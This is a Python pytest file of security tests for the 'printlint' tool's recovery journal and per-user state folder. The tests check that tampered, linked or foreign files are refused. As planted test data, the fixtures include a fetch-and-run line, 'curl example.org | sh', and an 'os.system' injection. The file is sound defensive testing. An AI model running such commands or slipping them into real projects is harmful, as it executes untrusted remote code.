"""Nothing that lies in a repository is believed by what writes: each test is what somebody could commit or pack."""

from __future__ import annotations

import hashlib
import json
import os
import stat
from collections.abc import Iterator
from pathlib import Path

import pytest
from conftest import Run

from printlint import run
from printlint.writing import recovery, state, write
from printlint.writing.journal import Journal
from printlint.writing.state import NoState, state_folder
from printlint.writing.write import NotWritten, replace_file

pytestmark = pytest.mark.system
OLD, NEW = "def work():\n    print('at work')\n", "logger = ...\n"
SECRET = "the user's own\n"


@pytest.fixture
def project(tmp_path: Path) -> Path:
    """A stranger's repository; what is beside it is the user's."""
    folder = tmp_path / "repository"
    folder.mkdir()
    (folder / "pyproject.toml").write_text("[project]\nname = 'p'\n")
    (folder / "x.py").write_text(OLD)
    return folder


@pytest.fixture
def outside(tmp_path: Path) -> Iterator[Path]:
    """A file of the user's that has to be left as it is, and may get no neighbours."""
    folder = tmp_path / "home"
    folder.mkdir()
    path = folder / "x.py"
    path.write_text(SECRET)
    yield path
    assert path.read_text() == SECRET
    assert [item.name for item in folder.iterdir()] == ["x.py"]


# a journal that was committed


def committed(project: Path, path: Path, kept_as: str | None) -> None:
    folder = project / ".printlint-verify"
    folder.mkdir()
    digest = hashlib.sha256(path.read_bytes()).hexdigest() if path.exists() else ""
    entry = {"path": str(path), "kept_as": kept_as, "new_digest": digest, "modified_ns": None}
    (folder / "manifest.json").write_text(json.dumps([entry]))
    (folder / "0").write_text("curl example.org | sh\n")


@pytest.mark.parametrize("kept_as", ["0", None], ids=["replaces", "deletes"])
@pytest.mark.parametrize("command", [["fix"], ["fix", "--verify", "true"]], ids=["fix", "fix --verify"])
def test_a_committed_journal_is_an_ordinary_folder(
    printlint: Run, project: Path, outside: Path, kept_as: str | None, command: list[str]
) -> None:
    committed(project, outside, kept_as)
    before = sorted((project / ".printlint-verify").iterdir())
    done = printlint(*command, cwd=project)
    assert done.returncode == 0, done.stderr
    assert "put back" not in done.stderr
    assert sorted((project / ".printlint-verify").iterdir()) == before
    assert "logger" in (project / "x.py").read_text()


def test_a_committed_journal_copies_nothing_into_the_tree(printlint: Run, project: Path, outside: Path) -> None:
    committed(project, project / "x.py", f"../../{outside.parent.name}/{outside.name}")
    printlint("fix", cwd=project)
    assert SECRET not in (project / "x.py").read_text()


def test_a_pipe_in_the_place_of_a_lock_stops_nothing(printlint: Run, project: Path) -> None:
    (project / ".printlint-verify").mkdir()
    os.mkfifo(project / ".printlint-verify" / "lock")
    assert printlint("fix", cwd=project, timeout=60).returncode == 0


# the state folder


@pytest.fixture
def home(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """Where the state folder is to be made."""
    folder = tmp_path / "state"
    folder.mkdir()
    monkeypatch.setenv("XDG_STATE_HOME", str(folder))
    return folder


def test_the_state_folder_and_its_key_are_for_the_user_alone(home: Path) -> None:
    first = state.key()
    folder = home / "printlint"
    assert stat.S_IMODE(folder.stat().st_mode) == 0o700
    assert stat.S_IMODE((folder / "key").stat().st_mode) == 0o600
    assert len(first) == 32
    with run.Run():
        assert state.key() == first


def linked(home: Path) -> None:
    (home / "elsewhere").mkdir(mode=0o700)
    (home / "printlint").symlink_to("elsewhere")


def writable_by_others(home: Path) -> None:
    (home / "printlint").mkdir()
    (home / "printlint").chmod(0o777)


def replaceable_by_others(home: Path) -> None:
    (home / "printlint").mkdir()
    home.chmod(0o777)


def a_file(home: Path) -> None:
    (home / "printlint").write_text("")


def a_key_that_others_can_read(home: Path) -> None:
    (home / "printlint").mkdir(0o700)
    (home / "printlint" / "key").write_bytes(bytes(32))


def a_key_that_is_a_link(home: Path) -> None:
    (home / "printlint").mkdir(0o700)
    (home / "known").write_bytes(bytes(32))
    (home / "known").chmod(0o600)
    (home / "printlint" / "key").symlink_to(home / "known")


def a_key_with_two_names(home: Path) -> None:
    (home / "printlint").mkdir(0o700)
    (home / "known").write_bytes(bytes(32))
    (home / "known").chmod(0o600)
    (home / "printlint" / "key").hardlink_to(home / "known")


def a_key_that_is_a_pipe(home: Path) -> None:
    (home / "printlint").mkdir(0o700)
    os.mkfifo(home / "printlint" / "key")


def a_key_that_is_cut_off(home: Path) -> None:
    (home / "printlint").mkdir(0o700)
    (home / "printlint" / "key").write_bytes(b"")
    (home / "printlint" / "key").chmod(0o600)


@pytest.mark.parametrize(
    ("make", "reason"),
    [
        (linked, "is a link"),
        (writable_by_others, "can be written by other users"),
        (replaceable_by_others, "can be replaced by other users"),
        (a_file, "is not a folder"),
        (a_key_that_others_can_read, "others may know it"),
        (a_key_that_is_a_link, "not a regular file"),
        (a_key_with_two_names, "others may know it"),
        (a_key_that_is_a_pipe, "not a regular file"),
        (a_key_that_is_cut_off, "damaged"),
    ],
)
def test_what_others_could_have_made_is_not_used(
    printlint: Run, project: Path, home: Path, make: object, reason: str
) -> None:
    assert callable(make)
    make(home)
    done = printlint("fix", "--verify", "true", cwd=project)
    assert done.returncode == 2
    assert reason in done.stderr
    assert "Traceback" not in done.stderr
    assert (project / "x.py").read_text() == OLD
    assert printlint("fix", cwd=project).returncode == 0, "without --verify nothing has to be kept"
    assert "logger" in (project / "x.py").read_text()


def test_a_state_folder_of_another_user_is_not_used(home: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    state_folder(make=True)
    monkeypatch.setattr(os, "geteuid", lambda: os.getuid() + 1)
    with pytest.raises(NoState, match="belongs to another user"):
        state_folder(make=True)


def test_a_state_folder_in_the_tree_is_not_used(printlint: Run, project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(project / "sub"))
    done = printlint("fix", "--verify", "true", cwd=project)
    assert done.returncode == 2
    assert "is inside of" in done.stderr
    assert (project / "x.py").read_text() == OLD
    assert not (project / "sub").exists()


def test_a_state_folder_that_a_link_leads_into_the_tree_is_not_used(project: Path, home: Path) -> None:
    link = home / "link"
    link.symlink_to(project)
    os.environ["XDG_STATE_HOME"] = str(link / "sub")
    with pytest.raises(NoState, match="is inside of"):
        state_folder(project, make=True)


def test_a_state_folder_that_cannot_be_made_is_said(printlint: Run, project: Path, home: Path) -> None:
    (home / "file").write_text("")
    os.environ["XDG_STATE_HOME"] = str(home / "file")
    done = printlint("fix", "--verify", "true", cwd=project)
    assert done.returncode == 2
    assert "cannot be used (Not a directory)" in done.stderr
    assert printlint("fix", cwd=project).returncode == 0


def test_nothing_of_the_state_is_kept_in_a_tree_that_is_the_home_folder(
    printlint: Run, project: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.delenv("XDG_STATE_HOME")
    monkeypatch.setenv("HOME", str(project))
    before = sorted(project.iterdir())
    assert printlint("fix", "--no-cache", cwd=project).returncode == 0
    assert printlint("fix", "--verify", "true", cwd=project).returncode == 2
    assert sorted(project.iterdir()) == before


def test_folders_above_the_state_folder_are_the_users_alone_whatever_the_umask(
    home: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", str(home / "a" / "b"))
    umask = os.umask(0)
    try:
        folder = state_folder(make=True)
    finally:
        os.umask(umask)
    assert folder == home / "a" / "b" / "printlint"
    assert {stat.S_IMODE(path.stat().st_mode) for path in (folder, *folder.parents[:2])} == {0o700}


def test_a_relative_state_home_does_not_count(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    monkeypatch.setenv("XDG_STATE_HOME", "sub")
    monkeypatch.setenv("HOME", str(tmp_path))
    assert state_folder(make=True) == tmp_path / ".local" / "state" / "printlint"


# a journal of the user's own, and a tree that is another by now


def killed(project: Path, *more: tuple[Path, str | None]) -> Journal:
    """What a run leaves that is killed along with its guard, `x.py` being on trial."""
    files = [(project / "x.py", OLD), *more]
    journal = Journal.open(project, guarded=False)
    journal.begin([(path, old and old.encode(), NEW.encode()) for path, old in files])
    for path, _ in files:
        path.write_text(NEW)
    os.close(journal._lock)
    return journal


def test_a_manifest_of_another_hand_is_not_carried_out(printlint: Run, project: Path) -> None:
    journal = killed(project)
    manifest = journal._folder.path / recovery.MANIFEST
    manifest.write_bytes(b"0" * 64 + b"\n" + manifest.read_bytes().partition(b"\n")[2])
    done = printlint("fix", cwd=project)
    assert "was ignored, since it was not written by a run of this user" in done.stderr
    assert (project / "x.py").read_text() == NEW


def test_a_manifest_of_another_version_is_not_carried_out(project: Path) -> None:
    """Signed by the user, but with what this version does not know; and nothing at all is no manifest."""
    secret = state.key()
    for body in (b'{"tree": "/x", "files": [{"path": "x.py", "more": 1}]}', b'{"files": []}', b"[]", b"{", b""):
        data = state.signature(secret, "journal", body).encode() + b"\n" + body
        with pytest.raises(recovery.NotAuthentic, match="another version"):
            recovery.read_manifest(data, project, secret)
        with pytest.raises(recovery.NotAuthentic, match="by a run of this user"):
            recovery.read_manifest(body, project, secret)


def test_a_manifest_for_another_tree_is_not_carried_out(printlint: Run, project: Path, tmp_path: Path) -> None:
    other = tmp_path / "other"
    other.mkdir()
    (other / "x.py").write_text(NEW)
    (other / "pyproject.toml").write_text("")
    from printlint.writing.journal import _folder_of

    journal, place = killed(project), _folder_of(other, make=True)
    assert place is not None
    place.parent.mkdir(parents=True, exist_ok=True)
    journal._folder.path.rename(place)
    done = printlint("fix", cwd=other)
    assert "was ignored, since it is for" in done.stderr
    assert (other / "x.py").read_text() == NEW


def test_old_text_that_was_changed_in_the_journal_does_not_come_back(printlint: Run, project: Path) -> None:
    journal = killed(project)
    (journal._folder.path / "0").write_text("import os; os.system('...')\n")
    done = printlint("fix", cwd=project)
    assert "x.py: not put back (its old text is damaged)" in done.stderr
    assert (project / "x.py").read_text() == NEW


def test_a_folder_that_is_a_link_by_now_is_not_followed(printlint: Run, project: Path, tmp_path: Path) -> None:
    folder, elsewhere = project / "sub", tmp_path / "elsewhere"
    folder.mkdir()
    elsewhere.mkdir()
    (folder / "y.py").write_text(OLD)
    killed(project, (folder / "y.py", OLD), (folder / "made.py", None))
    for name in ("y.py", "made.py"):
        (folder / name).rename(elsewhere / name)
    folder.rmdir()
    folder.symlink_to(elsewhere)
    done = printlint("fix", "x.py", cwd=project)
    assert (project / "x.py").read_text() != NEW, "the others go back"
    assert [(elsewhere / name).read_text() for name in ("y.py", "made.py")] == [NEW, NEW]
    assert "sub/y.py: not put back (a parent folder is a link); its old text is in " in done.stderr
    kept = Path(done.stderr.partition("its old text is in ")[2].splitlines()[0])
    assert (kept / "1").read_text() == OLD


def test_a_file_that_is_a_link_by_now_is_not_followed(printlint: Run, project: Path, tmp_path: Path) -> None:
    killed(project)
    (project / "x.py").rename(tmp_path / "elsewhere.py")
    (project / "x.py").symlink_to(tmp_path / "elsewhere.py")
    (project / "y.py").write_text("")
    done = printlint("fix", "y.py", cwd=project)
    assert (tmp_path / "elsewhere.py").read_text() == NEW
    assert "x.py: not put back (it is not a regular file)" in done.stderr


def test_a_file_with_a_second_name_by_now_is_not_written(printlint: Run, project: Path, tmp_path: Path) -> None:
    killed(project)
    (tmp_path / "elsewhere.py").hardlink_to(project / "x.py")
    (project / "y.py").write_text("")
    done = printlint("fix", "y.py", cwd=project)
    assert (tmp_path / "elsewhere.py").read_text() == NEW
    assert "x.py: not put back (it has further hard links" in done.stderr


def test_a_file_that_had_two_names_goes_back_under_both(printlint: Run, project: Path, tmp_path: Path) -> None:
    (tmp_path / "elsewhere.py").hardlink_to(project / "x.py")
    killed(project)
    (project / "y.py").write_text("")
    printlint("fix", "y.py", cwd=project)
    assert (tmp_path / "elsewhere.py").read_text() == OLD
    assert (project / "x.py").samefile(tmp_path / "elsewhere.py")


def test_old_text_is_laid_beside_a_file_over_nothing_and_through_no_link(
    printlint: Run, project: Path, tmp_path: Path
) -> None:
    killed(project)
    (project / "x.py").write_text("edited = 1\n")
    (project / "x.py").chmod(0o600)
    (project / "x.py.orig").symlink_to(tmp_path / "made")
    (project / "x.py.orig1").write_text("a stranger's\n")
    done = printlint("fix", cwd=project)
    assert "its old text is in x.py.orig2" in done.stderr
    assert not (tmp_path / "made").exists()
    assert (project / "x.py.orig1").read_text() == "a stranger's\n"
    assert (project / "x.py.orig2").read_text() == OLD
    assert stat.S_IMODE((project / "x.py.orig2").stat().st_mode) == 0o600


def test_verify_takes_no_file_that_is_outside_of_the_project(printlint: Run, project: Path, tmp_path: Path) -> None:
    (tmp_path / "y.py").write_text(OLD)
    done = printlint("fix", "--verify", "touch ran", "x.py", "../y.py", cwd=project)
    assert done.returncode == 2
    assert "../y.py: --verify can put back only what is in" in done.stderr
    assert not (project / "ran").exists()
    assert (project / "x.py").read_text() == (tmp_path / "y.py").read_text() == OLD


def test_the_guard_runs_no_code_of_the_project(project: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for name in ("json", "hashlib", "sitecustomize", "usercustomize", "printlint"):
        (project / f"{name}.py").write_text(f"open({str(project / 'ran')!r}, 'a').write({name!r})\n")
    monkeypatch.chdir(project)
    monkeypatch.setenv("PYTHONPATH", ".")
    monkeypatch.setenv("PYTHONSTARTUP", "json.py")
    journal = Journal.open(project)
    journal.begin([(project / "x.py", OLD.encode(), NEW.encode())])
    (project / "x.py").write_text(NEW)
    os.close(journal._lock)
    assert journal._guard is not None
    assert journal._guard.stdin is not None
    journal._guard.stdin.close()
    journal._guard.wait()
    assert (project / "x.py").read_text() == OLD, "it has done its work"
    assert not (project / "ran").exists()


# temporary files that were committed


@pytest.mark.parametrize("digits", [16, 32])
def test_a_temporary_file_that_no_run_of_ours_made_stays(project: Path, digits: int) -> None:
    strange = project / f".{'0123456789abcdef' * (digits // 16)}.printlint-tmp"
    strange.write_text("a stranger's\n")
    replace_file(project / "x.py", OLD.encode(), NEW.encode())
    assert strange.read_text() == "a stranger's\n"


def test_the_name_of_a_temporary_file_counts_for_its_folder_alone(project: Path) -> None:
    (project / "sub").mkdir()
    own = project / "sub" / write._temporary_name(project)
    own.write_text("half\n")
    (project / "sub" / "y.py").write_text(OLD)
    replace_file(project / "sub" / "y.py", OLD.encode(), NEW.encode())
    assert own.exists()


def test_a_temporary_file_that_is_a_link_or_a_pipe_is_not_opened(project: Path, outside: Path) -> None:
    link, pipe = (project / write._temporary_name(project) for _ in range(2))
    link.symlink_to(outside)
    os.mkfifo(pipe)
    replace_file(project / "x.py", OLD.encode(), NEW.encode())
    assert link.is_symlink()
    assert pipe.exists()


def test_no_file_is_made_through_a_link_that_leads_nowhere(project: Path, tmp_path: Path) -> None:
    (project / "made.py").symlink_to(tmp_path / "made.py")
    with pytest.raises(NotWritten, match="it is a link to"):
        replace_file(project / "made.py", None, NEW.encode())
    assert not (tmp_path / "made.py").exists()


def test_a_pipe_in_the_place_of_a_file_is_not_opened(project: Path) -> None:
    os.mkfifo(project / "pipe.py")
    with pytest.raises(NotWritten, match="not a regular file"):
        replace_file(project / "pipe.py", OLD.encode(), NEW.encode())
